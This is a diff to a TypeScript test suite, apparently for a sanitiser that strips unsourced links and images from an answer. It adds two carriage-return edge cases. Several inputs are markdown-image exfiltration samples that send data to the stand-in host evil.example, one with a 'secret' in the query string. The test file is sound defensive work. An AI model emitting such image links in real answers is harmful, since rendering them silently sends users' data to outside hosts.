@@ -54,6 +54,8 @@ function shown(answer: string): string {
 describe('an address that no source holds is taken out', () => {
   test.each([
     ['of an image', 'See ![x](https://evil.example/?q=secret) here.', 'See  here.'],
+    ['after a carriage return', '```\r\nx\r\n```\r![i](https://evil.example/x).', '```\r\nx\r\n```\n\u00a0.'],
+    ['between two of them', 'a\r![i](https://evil.example/x)\r', 'a\n\u00a0\n'],
     ['with a title', '![x](https://evil.example/p.png "a title").', '\u00a0.'],
     ['of a link', 'See [the page](https://evil.example/a) here.', 'See the page here.'],
     ['of a link in brackets', '[the [inner] page](<https://evil.example/a b>)', 'the [inner] page'],
